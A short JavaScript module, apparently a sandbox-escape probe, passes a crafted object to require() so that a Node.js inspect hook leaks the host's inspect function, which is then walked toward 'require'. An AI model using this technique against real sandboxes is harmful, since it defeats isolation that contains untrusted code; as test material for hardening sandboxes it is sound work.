import { climb } from "./probe";

export function attack() {
  let met;
  const name = {
    __proto__: null,
    [Symbol.toPrimitive]: () => "./none",
    replace: () => "x",
    startsWith: () => true,
    [Symbol.for("nodejs.util.inspect.custom")](_depth, _options, inspect) {
      met = inspect;
      return "";
    },
  };
  try {
    require(name);
  } catch {
    // What counts is what the hook was given.
  }
  climb(met, "require");
}
